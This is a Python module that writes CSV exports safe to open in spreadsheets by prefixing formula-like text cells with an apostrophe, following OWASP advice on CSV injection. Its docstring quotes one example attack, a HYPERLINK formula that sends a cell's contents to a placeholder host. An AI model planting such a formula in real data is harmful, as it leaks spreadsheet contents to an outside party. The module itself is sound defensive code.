"""CSV files that are safe to open in a spreadsheet.

Article text is untrusted, and a spreadsheet reads a cell that begins with
``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some strip
before looking) as a formula: ``=HYPERLINK("http://evil.example/?"&A1, "click")``
in an article's title would run when a teacher opens the export. As the OWASP
guidance on CSV injection recommends, every such text cell is written with a
leading apostrophe (``'=HYPERLINK(...)``), which spreadsheets show as the text
itself; the csv module quotes the cell, so embedded quotes and separators stay
inside it. Numeric columns are left alone: a negative number is a number, not
a formula.

>>> import pandas as pd
>>> frame = pd.DataFrame({"text": ["=1+2", "+33 1 23", "-minus", "@SUM(A1)", "\\tx", "plain"],
...                       "n": [-1, 2, 3, 4, 5, 6]})
>>> escape_formulas(frame)["text"].tolist()
["'=1+2", "'+33 1 23", "'-minus", "'@SUM(A1)", "'\\tx", 'plain']
>>> escape_formulas(frame)["n"].tolist()
[-1, 2, 3, 4, 5, 6]
"""

from __future__ import annotations

import os
from pathlib import Path

import pandas as pd

__all__ = ["FORMULA_STARTS", "escape_cell", "escape_formulas", "write_csv"]

#: The first characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def escape_cell(value: object) -> object:
    """``value`` with a leading apostrophe when it is text that starts like a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def escape_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) cannot run as formulas."""
    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if pd.api.types.is_numeric_dtype(series) or pd.api.types.is_bool_dtype(series):
            continue
        if pd.api.types.is_datetime64_any_dtype(series):
            continue
        out[column] = series.map(escape_cell).astype(object)
    out.columns = [escape_cell(c) if isinstance(c, str) else c for c in out.columns]
    return out


def write_csv(frame: pd.DataFrame, path: str | os.PathLike[str]) -> Path:
    """Write ``frame`` as UTF-8 CSV without its index, formulas escaped; returns the path."""
    path = Path(path)
    escape_formulas(frame).to_csv(path, index=False, encoding="utf-8", lineterminator="\n")
    return path
